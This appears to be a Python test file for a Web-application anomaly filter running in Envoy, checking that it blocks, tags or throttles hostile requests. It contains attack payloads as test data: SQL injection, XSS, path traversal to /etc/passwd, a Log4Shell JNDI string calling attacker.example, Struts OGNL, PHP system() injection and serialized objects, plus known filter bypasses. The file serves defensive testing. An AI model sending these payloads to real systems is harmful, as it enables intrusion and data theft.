"""The anomaly filter through a real Envoy (issue 11): block mode answers 403 before the
upstream sees anything (for a body finding: before the upstream gets any of the body; Envoy's
Wasm host passes the headers on before a filter may read the body), tag mode adds the headers the upstream reads (and replaces forged
ones), JSON and form bodies are inspected up to the cap and otherwise pass byte for byte,
hostile input (huge headers, many headers, bytes that are not UTF-8, malformed bodies) never
panics the VM or hangs, shadow mode reports without acting, the throttle hint drives a
stricter rate-limit rule, and the metrics appear labelled in /stats/prometheus.

Every Envoy is checked for VM panics and crashes at teardown (conftest `procs`)."""

from __future__ import annotations

import json
import socket

from harness.anomaly import DETECTORS_HEADER, HINT_HEADER, SCORE_HEADER, anomaly_filter
from harness.checks import audit_lines
from harness.envoy import static_cluster
from harness.procs import wait_until
from harness.raw_http import raw_request
from harness.rls_proc import rate_limit_filter

SQLI_QUERY = "/items?id=1%27%20OR%201%3D1--"
SQLI_VALUE = "1' OR 1=1--"
TIMEOUT = 10


def _serve(procs, cfg, pre=(), post=(), concurrency=2):
    echo = procs.echo()
    e = procs.envoy(list(pre) + [anomaly_filter(cfg)] + list(post),
                    [static_cluster("upstream", echo.port)], concurrency=concurrency).start()
    return e, echo


def _audit(e, decision=None):
    def lines():
        out = [a for a in audit_lines(e.log_text()) if a.get("filter") == "anomaly"]
        return [a for a in out if decision is None or a["decision"] == decision]
    wait_until(lambda: lines(), 5, 0.1)
    return lines()


def _raw_chunked(port, path, ctype, parts):
    """POST `parts` as HTTP/1.1 chunks in one write; returns (status, body)."""
    body = b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in parts) + b"0\r\n\r\n"
    head = (f"POST {path} HTTP/1.1\r\nhost: test\r\ncontent-type: {ctype}\r\n"
            "transfer-encoding: chunked\r\nconnection: close\r\n\r\n").encode()
    with socket.create_connection(("127.0.0.1", port), timeout=TIMEOUT) as sock:
        sock.sendall(head + body)
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    status = int(data.split(b" ", 2)[1])
    return status, data.split(b"\r\n\r\n", 1)[-1]


def _no_body_reached(echo):
    """A blocked body never reaches the upstream: at most the headers of a reset request."""
    assert all(rec["body"] == "" for rec in echo.snapshot()), echo.snapshot()
    echo.reset()


def test_block_mode_answers_403_before_the_upstream_sees_the_request(procs):
    e, echo = _serve(procs, {})
    r = e.request(SQLI_QUERY, timeout=TIMEOUT)
    assert r.status_code == 403, r.text
    assert r.headers["content-type"] == "application/problem+json"
    body = r.json()
    assert body["reason"] == "anomaly_detected"
    assert "sqli" in body["detectors"]
    assert {"detector": "sqli", "rule": body["findings"][0]["rule"], "field": "query.id"} in body["findings"]
    assert SQLI_VALUE not in r.text and "OR 1=1" not in r.text, "a value leaked into the reply"
    assert echo.snapshot() == [], "the upstream saw a blocked request"
    line = _audit(e, "block")[0]
    assert line["status"] == 403 and line["score"] >= 5 and line["path"] == "/items"
    assert any(f["detector"] == "sqli" and f["field"] == "query.id" and "offset" in f for f in line["findings"])
    assert SQLI_VALUE not in e.log_text()
    # benign traffic passes
    r = e.request("/items?id=42&sort=name", timeout=TIMEOUT)
    assert r.status_code == 200 and len(echo.snapshot()) == 1


def test_tag_mode_adds_headers_and_replaces_forged_ones(procs):
    e, echo = _serve(procs, {"tag_threshold": 3, "blocking_threshold": 1000})
    forged = {SCORE_HEADER: "0", DETECTORS_HEADER: "none", HINT_HEADER: "throttle"}
    r = e.request(SQLI_QUERY, headers=forged, timeout=TIMEOUT)
    assert r.status_code == 200
    seen = r.json()["headers"]
    assert int(seen[SCORE_HEADER]) >= 5, seen  # one value: the forged one was replaced
    assert seen[DETECTORS_HEADER] == "sqli"
    assert HINT_HEADER not in seen, "a forged hint reached the upstream"
    # a benign request carrying forged headers: all three are removed
    r = e.request("/items?id=42", headers=forged, timeout=TIMEOUT)
    assert r.status_code == 200
    seen = r.json()["headers"]
    assert not {SCORE_HEADER, DETECTORS_HEADER, HINT_HEADER} & set(seen), seen
    assert _audit(e, "tag")[0]["score"] >= 5


def test_json_and_form_bodies_are_inspected(procs):
    e, echo = _serve(procs, {})
    attacks = [
        ("application/json", json.dumps({"user": {"name": SQLI_VALUE}}).encode(), "body.$.user.name"),
        ("application/x-www-form-urlencoded", b"name=x&bio=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "body.bio"),
    ]
    for ctype, body, field in attacks:
        r = e.request("/submit", method="POST", data=body, headers={"content-type": ctype}, timeout=TIMEOUT)
        assert r.status_code == 403, (ctype, r.text)
        assert field in [f["field"] for f in r.json()["findings"]], r.text
    _no_body_reached(echo)
    benign = [
        ("application/json", json.dumps({"name": "O'Brien", "note": "select the best, drop the rest",
                                         "tags": ["a", "b"], "n": 3}).encode()),
        ("application/x-www-form-urlencoded", b"name=Jane+Doe&city=S%C3%A3o+Paulo&q=1+or+2"),
    ]
    for ctype, body in benign:
        r = e.request("/submit", method="POST", data=body, headers={"content-type": ctype}, timeout=TIMEOUT)
        assert r.status_code == 200, (ctype, r.text)
        assert r.json()["body"] == body.decode(), "the body changed on its way"


def test_a_body_over_the_cap_is_scanned_up_to_the_cap(procs):
    e, echo = _serve(procs, {"max_body_bytes": 1024})
    filler = "x" * 2000
    # the attack is past the cap: not seen, and the whole body reaches the upstream unchanged
    late = f"lorem={filler}&q={SQLI_VALUE}".encode()
    r = e.request("/submit", method="POST", data=late,
                  headers={"content-type": "application/x-www-form-urlencoded"}, timeout=TIMEOUT)
    assert r.status_code == 200, r.text
    assert r.json()["body"] == late.decode()
    # within the cap: blocked, also when the body arrives in chunks (no content-length)
    early = f"q={SQLI_VALUE}&lorem={filler}".encode()
    echo.reset()
    r = e.request("/submit", method="POST", data=early,
                  headers={"content-type": "application/x-www-form-urlencoded"}, timeout=TIMEOUT)
    assert r.status_code == 403, r.text

    # chunked (no content-length), written in one go so that the decision does not race the
    # echo upstream, which answers a chunked request without reading its body
    parts = [b'{"a": "' + b"y" * 600, b'", "q": "' + SQLI_VALUE.encode() + b'"}']
    status, _ = _raw_chunked(e.port, "/submit", "application/json", parts)
    assert status == 403
    _no_body_reached(echo)


def test_a_json_body_of_exactly_the_cap_is_parsed(procs):
    """A body of exactly max_body_bytes is whole, not cut: it is parsed as JSON (the finding
    names the JSON field), not scanned as raw text as a truncated body would be."""
    e, _ = _serve(procs, {"max_body_bytes": 1024})
    head = json.dumps({"q": SQLI_VALUE, "pad": ""})
    body = json.dumps({"q": SQLI_VALUE, "pad": "z" * (1024 - len(head))}).encode()
    assert len(body) == 1024
    r = e.request("/submit", method="POST", data=body, headers={"content-type": "application/json"},
                  timeout=TIMEOUT)
    assert r.status_code == 403, r.text
    assert "body.$.q" in [f["field"] for f in r.json()["findings"]], r.text


def test_json_inside_a_value_is_read_as_json(procs):
    """A JSON document inside a JSON string or a query parameter is read as JSON: its words are
    not SQL string breakouts (the upstream gets the body), and a payload in one of its leaves is
    blocked, named by the path into the document."""
    e, echo = _serve(procs, {})
    body = json.dumps({"meta": json.dumps({"tags": ["or", "update"], "title": "Sam's \"best\""})})
    r = e.request("/submit", method="POST", data=body.encode(),
                  headers={"content-type": "application/json"}, timeout=TIMEOUT)
    assert r.status_code == 200, r.text
    assert r.json()["body"] == body
    r = e.request("/items?filter=%7B%22q%22%3A%221%27%20OR%201%3D1--%22%7D", timeout=TIMEOUT)
    assert r.status_code == 403, r.text
    assert {f["field"] for f in r.json()["findings"]} == {"query.filter.q"}, r.text


def test_malformed_json_is_reported_not_fatal(procs):
    e, echo = _serve(procs, {"tag_threshold": 3})
    body = b'{"name": "ann", "note": '
    r = e.request("/submit", method="POST", data=body, headers={"content-type": "application/json"},
                  timeout=TIMEOUT)
    assert r.status_code == 200, r.text
    seen = r.json()
    assert seen["body"] == body.decode()
    # decided at the end of the body, after the headers went on: no tag header then
    assert DETECTORS_HEADER not in seen["headers"]
    line = _audit(e)[0]
    assert line["decision"] == "tag"
    assert [f["rule"] for f in line["findings"]] == ["protocol.malformed-json"]
    # not UTF-8 inside JSON, deep nesting: answered, never a crash
    for body in (b'{"a": "\xff\xfe\xc3\x28"}', b"[" * 5000 + b"]" * 5000):
        r = e.request("/submit", method="POST", data=body, headers={"content-type": "application/json"},
                      timeout=TIMEOUT)
        assert r.status_code in (200, 403), r.status_code


def test_huge_and_hostile_headers_never_panic_or_hang(procs):
    e, echo = _serve(procs, {})
    cases = [
        [("x-big", "a" * 60 * 1024)],                          # one 60 KiB header
        [(f"x-h{i}", "v") for i in range(95)],                  # many headers
        [("x-text", b"\xff\xfe\xc3\x28 caf\xe9")],             # not UTF-8
        [("user-agent", b"\xc0\xae\xc0\xae/etc/passwd")],      # overlong UTF-8 bytes
        [("cookie", "a=" + "b" * 30000 + "; c=" + SQLI_VALUE)],
    ]
    for headers in cases:
        status, _, _ = raw_request(e.port, "/items?x=1", headers, timeout=TIMEOUT)
        assert status in (200, 403), (headers[0][0], status)
    # the oversized header alone is a warning: detected, not blocked
    assert raw_request(e.port, "/items", [("x-big", "a" * 60 * 1024)], timeout=TIMEOUT)[0] == 200
    assert any(f["rule"] == "protocol.oversized-header" for a in _audit(e) for f in a["findings"])
    # the VM still serves every worker
    assert {e.request("/ok", timeout=TIMEOUT).status_code for _ in range(8)} == {200}
    assert e.health_problems() == []


def test_shadow_mode_reports_but_passes(procs):
    e, echo = _serve(procs, {"shadow": True, "throttle_threshold": 3})
    r = e.request(SQLI_QUERY, timeout=TIMEOUT)
    assert r.status_code == 200
    assert HINT_HEADER not in r.json()["headers"], "shadow mode must not throttle"
    assert len(echo.snapshot()) == 1
    line = _audit(e, "shadow_block")[0]
    assert "status" not in line
    assert e.wait_metric("meshward_anomaly_actions", 1, action="shadow_block") == 1
    assert e.metric("meshward_anomaly_blocked") == 0


def test_throttle_hint_drives_a_stricter_rate_limit_rule(procs):
    rate = {"rules": [
        {"name": "suspect", "match": {"headers": [{"name": HINT_HEADER, "exact": "throttle"}]},
         "key": [{"literal": "suspect"}], "limit": {"requests": 1, "per": "hour"}},
        {"name": "everyone", "key": [{"literal": "all"}], "limit": {"requests": 1000, "per": "hour"}},
    ]}
    e, echo = _serve(procs, {"throttle_threshold": 3, "blocking_threshold": 1000},
                     post=[rate_limit_filter(rate)])
    got = [e.request(SQLI_QUERY, timeout=TIMEOUT).status_code for _ in range(3)]
    assert got == [200, 429, 429], got
    # benign requests, also ones forging the hint, are under the normal rule only
    got = [e.request("/items?id=7", headers={HINT_HEADER: "throttle"}, timeout=TIMEOUT).status_code
           for _ in range(3)]
    assert got == [200, 200, 200], got
    assert e.wait_metric("meshward_rate_limit_limited", 2, rule="suspect") == 2
    assert e.metric("meshward_anomaly_actions", action="throttle") == 3


def test_metrics_are_labelled_in_prometheus(procs):
    e, echo = _serve(procs, {"tag_threshold": 3})
    assert e.request("/ok?x=1", timeout=TIMEOUT).status_code == 200
    assert e.request(SQLI_QUERY, timeout=TIMEOUT).status_code == 403
    assert e.request("/f?path=..%2F..%2F..%2Fetc%2Fpasswd", timeout=TIMEOUT).status_code == 403
    assert e.wait_metric("meshward_anomaly_blocked", 2) == 2
    assert e.metric("meshward_anomaly_allowed") == 1
    assert e.metric("meshward_anomaly_detections", detector="sqli") == 1
    assert e.metric("meshward_anomaly_detections", detector="traversal") == 1
    assert e.metric("meshward_anomaly_actions", action="block") == 2
    assert e.metric("meshward_anomaly_actions", action="tag") == 2
    assert e.metric("meshward_anomaly_actions", action="monitor") == 2
    # histograms reach the admin endpoint on the stats flush (5 s by default)
    assert e.wait_metric("meshward_anomaly_score_count", 3) == 3


def test_invalid_config_is_refused_with_the_field_path(procs):
    echo = procs.echo()
    e = procs.envoy([anomaly_filter({"routes": [{"path_prefix": "api"}]})],
                    [static_cluster("upstream", echo.port)], check_health=False)
    e.start(wait_ready=False)
    needle = "meshward anomaly: invalid config: routes[0].path_prefix"
    assert wait_until(lambda: needle in e.log_text(), 30), e.log_text()[-2000:]


def test_review_bypasses_are_closed(procs):
    """The four bypasses of the review: query padding past max_fields, a multipart delimiter in
    the middle of a line, a repeated JSON key, and a relaxed route's prefix reached by a longer
    name or by encoded dot-segments. Each is blocked; the relaxed route itself still applies."""
    e, echo = _serve(procs, {"routes": [{"path_prefix": "/admin/sql-console", "blocking_threshold": 1000}]})

    def fields(r, rule=None):
        return [f["field"] for f in r.json()["findings"] if rule is None or f["rule"] == rule]

    # 1. 400 query parameters of padding: the header is still scanned, and the padding blocks
    r = e.request("/search?" + "a=1&" * 400, headers={"x-note": "<script>alert(1)</script>"}, timeout=TIMEOUT)
    assert r.status_code == 403, r.text
    assert fields(r, "protocol.too-many-fields") and "header.x-note" in fields(r), r.text
    # 2. `--B` inside a field's text is content, not a delimiter opening a file part
    body = (b'--B\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
            b'x--B\r\nContent-Disposition: form-data; name="a"; filename="f"\r\n\r\n'
            b"' UNION SELECT password FROM users--\r\n--B--\r\n")
    r = e.request("/upload", method="POST", data=body,
                  headers={"content-type": "multipart/form-data; boundary=B"}, timeout=TIMEOUT)
    assert r.status_code == 403, r.text
    assert "body.a" in fields(r) and "body.a#filename" not in fields(r), r.text
    # 3. a repeated JSON key: the first occurrence is scanned too
    r = e.request("/submit", method="POST", data=b'{"q":"' + SQLI_VALUE.encode() + b'","q":"x"}',
                  headers={"content-type": "application/json"}, timeout=TIMEOUT)
    assert r.status_code == 403, r.text
    assert "body.$.q" in fields(r), r.text
    _no_body_reached(echo)
    # 4. the relaxed route applies to its own path only
    q = "?id=1%27%20OR%201%3D1--"
    for path in ("/admin/sql-consoleX", "/admin/sql-console/..%2F..%2Fapi/x"):
        r = e.request(path + q, timeout=TIMEOUT)
        assert r.status_code == 403, (path, r.status_code, r.text)
    for path in ("/admin/sql-console", "/admin/sql-console/run"):
        r = e.request(path + q, timeout=TIMEOUT)
        assert r.status_code == 200, (path, r.status_code, r.text)


def _blocked_before_the_upstream(e, echo, detector, cases):
    """Each (path, headers, rule, field) is a 403 naming that finding; the upstream saw none."""
    for path, headers, rule, field in cases:
        r = e.request(path, headers=headers, timeout=TIMEOUT)
        assert r.status_code == 403, (path, headers, r.text)
        found = r.json()["findings"]
        assert {"detector": detector, "rule": rule, "field": field} in found, found
    assert echo.snapshot() == [], "the upstream saw a blocked request"


LOG4SHELL_UA = "Mozilla/5.0 ${${lower:j}${::-n}di:ldap://attacker.example/a}"
SERIALIZED_B64 = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw"


def test_java_attacks_are_blocked_before_the_upstream(procs):
    e, echo = _serve(procs, {"exclusions": [{"fields": ["cookie.viewstate"], "detectors": ["java"]}]})
    cases = [
        ("/items", {"user-agent": LOG4SHELL_UA}, "java.jndi-lookup", "header.user-agent"),
        ("/items?q=%24%7Bjndi%3Armi%3A%2F%2Fattacker.example%2Fa%7D", {}, "java.jndi-lookup", "query.q"),
        ("/items", {"cookie": f"state={SERIALIZED_B64}"}, "java.serialized-object", "cookie.state"),
        ("/struts?redirect=%25%7B%28%23_memberAccess%5B%27allowStaticMethodAccess%27%5D%3Dtrue%29%7D",
         {}, "java.code-execution", "query.redirect"),
    ]
    _blocked_before_the_upstream(e, echo, "java", cases)
    # Placeholders and prose pass; an excluded field carries a serialized object (JSF view state).
    for path, headers in [("/greet?t=Hello%20%24%7Bname%7D", {}),
                          ("/docs?q=java%20runtime%20settings", {}),
                          ("/jsf", {"cookie": f"viewstate={SERIALIZED_B64}"})]:
        assert e.request(path, headers=headers, timeout=TIMEOUT).status_code == 200, path
    assert e.wait_metric("meshward_anomaly_detections", len(cases), detector="java") == len(cases)


def test_the_java_detector_can_be_turned_off(procs):
    e, _ = _serve(procs, {"detectors": {"java": {"enabled": False}}})
    assert e.request("/items", headers={"user-agent": LOG4SHELL_UA}, timeout=TIMEOUT).status_code == 200
    assert e.request(SQLI_QUERY, timeout=TIMEOUT).status_code == 403


def test_php_injection_is_blocked_before_the_upstream(procs):
    e, echo = _serve(procs, {})
    cases = [
        ("/items?code=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B", {}, "php.open-tag", "query.code"),
        ("/items?x=%27.system(%27id%27).%27", {}, "php.function-call", "query.x"),
        ("/items", {"cookie": 'cart=O:8:"stdClass":1:{s:1:"a";i:2;}'}, "php.serialized-object",
         "cookie.cart"),
    ]
    _blocked_before_the_upstream(e, echo, "php", cases)
    for path in ["/items?note=our%20system(s)%20failed", "/items?email=richard.php%40example.com",
                 "/items?q=exec()%20in%20python"]:
        assert e.request(path, timeout=TIMEOUT).status_code == 200, path
    assert e.wait_metric("meshward_anomaly_detections", len(cases), detector="php") == len(cases)
